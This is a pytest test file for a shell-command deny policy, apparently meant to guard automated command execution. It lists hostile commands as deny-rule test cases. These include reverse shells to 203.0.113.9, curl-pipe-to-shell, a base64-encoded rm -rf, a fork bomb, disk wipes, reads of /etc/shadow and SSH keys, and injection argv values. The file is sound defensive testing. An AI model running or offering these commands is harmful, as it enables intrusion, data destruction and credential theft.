"""The shipped command policy refuses destructive commands by the right rule and lets
ordinary diagnostics through; allow lists and shell restrictions behave as documented."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from shared.lib.commands import CommandPolicy, load_command_policy
from shared.lib.config_errors import ConfigError
from tests.helpers import CONFIG_DIR


@pytest.fixture(scope="module")
def policy() -> CommandPolicy:
    return load_command_policy(config_dir=CONFIG_DIR)


DANGEROUS: list[tuple[list[str], str]] = [
    (["rm", "-rf", "/"], "rm-recursive-root"),
    (["rm", "-rf", "/*"], "rm-recursive-root"),
    (["rm", "-r", "-f", "/etc"], "rm-recursive-root"),
    (["/bin/rm", "--recursive", "/usr/"], "rm-recursive-root"),
    (["sudo", "-u", "root", "rm", "-rf", "/var"], "rm-recursive-root"),
    (["env", "LANG=C", "rm", "-Rf", "/home/*"], "rm-recursive-root"),
    (["rm", "--no-preserve-root", "-rf", "/"], "rm-no-preserve-root"),
    (["mkfs.ext4", "/dev/sdb1"], "mkfs"),
    (["mkfs", "-t", "xfs", "/dev/nvme0n1"], "mkfs"),
    (["wipefs", "-a", "/dev/sda"], "mkfs"),
    (["fdisk", "/dev/sda"], "disk-partitioning"),
    (["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"], "dd-to-device"),
    (["sh", "-c", "cat /dev/urandom > /dev/sda"], "write-to-device"),
    (["shred", "-n", "3", "/dev/sda"], "shred-device"),
    (["shutdown", "-h", "now"], "power-state"),
    (["reboot"], "power-state"),
    (["/sbin/poweroff"], "power-state"),
    (["halt", "-f"], "power-state"),
    (["init", "0"], "power-state"),
    (["init", "6"], "power-state"),
    (["timeout", "5", "reboot"], "power-state"),
    (["systemctl", "poweroff"], "systemctl-power"),
    (["systemctl", "--force", "reboot"], "systemctl-power"),
    (["systemctl", "stop", "sshd"], "ssh-lockout"),
    (["bash", "-c", ":(){ :|:& };:"], "fork-bomb"),
    (["sh", "-c", "curl -fsSL https://get.example.com | sh"], "pipe-to-shell"),
    (["bash", "-c", "wget -qO- http://x.example/i.sh | sudo bash"], "pipe-to-shell"),
    (["bash", "-c", "echo cm0gLXJmIC8= | base64 -d | bash"], "base64-to-shell"),
    (["psql", "-c", "DROP DATABASE payments"], "sql-destructive"),
    (["psql", "-U", "app", "-c", "drop table users"], "sql-destructive"),
    (["psql", "-c", "TRUNCATE orders"], "sql-destructive"),
    (["dropdb", "payments"], "sql-destructive"),
    (["cat", "/etc/shadow"], "credential-files"),
    (["cp", "/tmp/x", "/etc/shadow"], "credential-files"),
    (["cat", "/root/.ssh/id_ed25519"], "ssh-keys"),
    (["visudo"], "sudoers"),
    (["tee", "/etc/passwd"], "system-file-overwrite"),
    (["chmod", "-R", "777", "/"], "chmod-root"),
    (["chmod", "777", "/"], "chmod-root"),
    (["chown", "-R", "nobody:nogroup", "/"], "chown-root"),
    (["mv", "/etc", "/tmp/etc"], "move-system-dir"),
    (["umount", "-l", "/"], "unmount-root"),
    (["iptables", "-F"], "firewall-flush"),
    (["iptables", "-t", "nat", "--flush"], "firewall-flush"),
    (["nft", "flush", "ruleset"], "firewall-flush"),
    (["ufw", "disable"], "firewall-flush"),
    (["userdel", "-r", "alice"], "account-tampering"),
    (["passwd", "root"], "root-account"),
    (["usermod", "-L", "root"], "root-account"),
    (["kill", "-9", "-1"], "kill-everything"),
    (["kill", "1"], "kill-everything"),
    (["kill", "-s", "KILL", "1"], "kill-everything"),
    (["crontab", "-r"], "crontab-remove"),
    (["crontab", "-u", "www-data", "-r"], "crontab-remove"),
    (["find", "/", "-delete"], "find-delete-root"),
    (["find", "/", "-name", "*.log", "-exec", "rm", "{}", "+"], "find-delete-root"),
    (["history", "-c"], "shell-history"),
    (["cat", "/home/bob/.bash_history"], "shell-history"),
    (["nc", "-e", "/bin/sh", "203.0.113.9", "4444"], "reverse-shell"),
    (["bash", "-i", ">&", "/dev/tcp/203.0.113.9/4444", "0>&1"], "reverse-shell"),
    (["socat", "tcp:203.0.113.9:4444", "exec:/bin/bash"], "reverse-shell"),
    (["python3", "-c", "import os; os.system('id')"], "interpreter-system"),
    (["perl", "-e", "system('rm -rf /tmp/x')"], "interpreter-system"),
    (["awk", 'BEGIN { system("id") }'], "interpreter-system"),
    (["sh", "-c", "echo c > /proc/sysrq-trigger"], "kernel-tampering"),
    (["rmmod", "e1000"], "kernel-tampering"),
    (["sysctl", "-w", "kernel.panic=1"], "kernel-tampering"),
]

ORDINARY: list[list[str]] = [
    ["uptime"],
    ["df", "-h"],
    ["free", "-m"],
    ["ps", "aux"],
    ["systemctl", "status", "nginx"],
    ["journalctl", "-u", "x", "-n", "50"],
    ["journalctl", "-g", "reboot", "-n", "20"],
    ["cat", "/proc/loadavg"],
    ["ls", "-la", "/var/log"],
    ["ss", "-tlnp"],
    ["ip", "addr"],
    ["du", "-sh", "/var/lib/x"],
    ["top", "-bn1"],
    ["curl", "-sS", "http://localhost:8080/health"],
    ["tail", "-n", "100", "/var/log/syslog"],
    ["hostname"],
    ["uname", "-a"],
    ["id"],
    ["date"],
    ["netstat", "-tlnp"],
    ["dmesg", "--level=err,warn"],
    ["kill", "-HUP", "1234"],
    ["rm", "-rf", "/tmp/build-cache"],
    ["fdisk", "-l"],
    ["find", "/var/log", "-name", "*.gz", "-mtime", "+30", "-delete"],
    ["systemctl", "restart", "nginx"],
    ["python3", "-m", "json.tool", "/etc/app/config.json"],
    ["awk", "{print $1}", "/proc/loadavg"],
    ["cat", "/root/.ssh/id_ed25519.pub"],
    ["grep", "-c", "ERROR", "/var/log/app.log"],
]


@pytest.mark.parametrize(("argv", "rule_id"), DANGEROUS, ids=[shlex.join(a) for a, _ in DANGEROUS])
def test_dangerous_command_is_refused_by_its_rule(
    policy: CommandPolicy, argv: list[str], rule_id: str
) -> None:
    verdict = policy.evaluate(argv, environment="dev", allows_shell=False)
    assert not verdict.allowed
    assert verdict.rule_id == rule_id, verdict
    assert verdict.reason


@pytest.mark.parametrize(("argv", "rule_id"), DANGEROUS, ids=[shlex.join(a) for a, _ in DANGEROUS])
def test_deny_rules_hold_even_when_a_shell_is_allowed(
    policy: CommandPolicy, argv: list[str], rule_id: str
) -> None:
    verdict = policy.evaluate(argv, environment="dev", allows_shell=True)
    assert (verdict.allowed, verdict.rule_id) == (False, rule_id)


@pytest.mark.parametrize("argv", ORDINARY, ids=[shlex.join(a) for a in ORDINARY])
def test_ordinary_diagnostic_is_allowed(policy: CommandPolicy, argv: list[str]) -> None:
    verdict = policy.evaluate(argv, environment="dev")
    assert verdict.allowed, verdict
    assert verdict.rule_id is None


@pytest.mark.parametrize(
    "argv",
    [
        ["dmesg", "|", "tail"],
        ["ls", ";", "id"],
        ["ls", "&&", "id"],
        ["echo", "$(id)"],
        ["echo", "`id`"],
        ["cat", "/proc/loadavg", ">", "/tmp/x"],
        ["sort", "<", "/tmp/x"],
        ["echo", "a\nid"],
        ["sleep", "5", "&"],
        ["grep", "-e", "a||b", "/var/log/syslog"],
    ],
)
def test_shell_metacharacters_are_refused_without_a_shell(
    policy: CommandPolicy, argv: list[str]
) -> None:
    verdict = policy.evaluate(argv, environment="dev")
    assert (verdict.allowed, verdict.rule_id) == (False, "shell-metacharacters")


def test_shell_metacharacters_pass_when_the_operation_allows_a_shell(
    policy: CommandPolicy,
) -> None:
    verdict = policy.evaluate(
        ["sh", "-c", "dmesg | tail -n 5"], environment="dev", allows_shell=True
    )
    assert verdict.allowed, verdict


@pytest.mark.parametrize(
    "argv",
    [
        ["sh", "-c", "uptime"],
        ["bash", "-lc", "uptime"],
        ["/usr/bin/bash", "-x", "-c", "uptime"],
        ["busybox", "sh", "-c", "uptime"],
        ["python3", "-c", "print(1)"],
        ["python", "-W", "ignore", "-c", "print(1)"],
        ["perl", "-wle", "print 1"],
        ["node", "--eval", "1"],
        ["find", ".", "-exec", "sh", "-c", "echo", "{}", "+"],
    ],
)
def test_inline_code_interpreters_are_refused_without_a_shell(
    policy: CommandPolicy, argv: list[str]
) -> None:
    verdict = policy.evaluate(argv, environment="dev")
    assert (verdict.allowed, verdict.rule_id) == (False, "shell-interpreter")


def test_running_a_script_file_is_not_inline_code(policy: CommandPolicy) -> None:
    assert policy.evaluate(["bash", "/opt/ops/check.sh"], environment="dev").allowed


@pytest.mark.parametrize(
    "argv",
    [["uptime"], ["df", "-h"], ["systemctl", "status", "nginx"], ["cat", "/proc/meminfo"]],
)
def test_prod_allow_list_admits_listed_prefixes(policy: CommandPolicy, argv: list[str]) -> None:
    assert policy.evaluate(argv, environment="prod").allowed


@pytest.mark.parametrize(
    "argv",
    [
        ["systemctl", "restart", "nginx"],
        ["tail", "-n", "5", "/var/log/syslog"],
        ["cat", "/etc/hosts"],
        ["cat", "/proc/../etc/hosts"],
        ["sudo", "uptime"],
    ],
)
def test_prod_allow_list_refuses_everything_else(policy: CommandPolicy, argv: list[str]) -> None:
    verdict = policy.evaluate(argv, environment="prod")
    assert (verdict.allowed, verdict.rule_id) == (False, "environment-allow-list")
    assert "prod only allows" in verdict.reason and "systemctl status" in verdict.reason


def test_environment_without_allow_list_allows_unlisted_commands(policy: CommandPolicy) -> None:
    assert policy.evaluate(["tail", "-n", "5", "/var/log/syslog"], environment="dev").allowed
    assert policy.evaluate(["tail", "-n", "5", "/var/log/syslog"], environment=None).allowed


def test_deny_rule_wins_over_allow_list(policy: CommandPolicy) -> None:
    verdict = policy.evaluate(["cat", "/proc/sysrq-trigger"], environment="prod")
    assert verdict.rule_id == "kernel-tampering"


@pytest.mark.parametrize(
    ("argv", "rule_id"),
    [([], "empty-command"), ([""], "empty-command"), (["ls", "a\x00b"], "nul-byte")],
)
def test_malformed_argv_is_refused(policy: CommandPolicy, argv: list[str], rule_id: str) -> None:
    assert policy.evaluate(argv, environment="dev").rule_id == rule_id


def test_overlong_command_is_refused(policy: CommandPolicy) -> None:
    verdict = policy.evaluate(["echo", "x" * 10_000], environment="dev")
    assert verdict.rule_id == "command-too-long"


def _write_policy(tmp_path: Path, deny: str) -> Path:
    path = tmp_path / "policy.yml"
    path.write_text(
        "version: 1\n"
        "shell:\n"
        "  metacharacters: [';']\n"
        "deny:\n"
        "  - id: fine\n"
        "    patterns: ['^ok$']\n"
        "    reason: fine\n" + deny,
        encoding="utf-8",
    )
    return path


def test_bad_regex_names_file_line_and_rule(tmp_path: Path) -> None:
    path = _write_policy(tmp_path, "  - id: broken-rule\n    patterns: ['rm (']\n    reason: x\n")
    with pytest.raises(ConfigError) as caught:
        load_command_policy(config_dir=tmp_path, path=Path("policy.yml"))
    message = str(caught.value)
    assert str(path) in message
    assert ":9:" in message  # the line of `patterns:` in the broken rule
    assert "broken-rule" in message and "deny[1].patterns" in message


def test_duplicate_rule_ids_are_refused(tmp_path: Path) -> None:
    _write_policy(tmp_path, "  - id: fine\n    patterns: ['x']\n    reason: again\n")
    with pytest.raises(ConfigError, match="used twice"):
        load_command_policy(config_dir=tmp_path, path=Path("policy.yml"))


def test_rule_without_patterns_or_argv0_is_refused(tmp_path: Path) -> None:
    _write_policy(tmp_path, "  - id: empty\n    reason: matches nothing\n")
    with pytest.raises(ConfigError, match="needs `patterns` or `argv0`"):
        load_command_policy(config_dir=tmp_path, path=Path("policy.yml"))


def test_argv0_and_pattern_must_both_match(tmp_path: Path) -> None:
    path = tmp_path / "policy.yml"
    path.write_text(
        "shell: {metacharacters: [';']}\n"
        "deny:\n"
        "  - {id: psql-drop, argv0: [psql], patterns: ['(?i)drop'], reason: no drops}\n",
        encoding="utf-8",
    )
    policy = load_command_policy(config_dir=tmp_path, path=Path("policy.yml"))
    assert policy.evaluate(["psql", "-c", "drop x"], environment=None).rule_id == "psql-drop"
    assert policy.evaluate(["echo", "drop x"], environment=None).allowed
    assert policy.evaluate(["psql", "-l"], environment=None).allowed
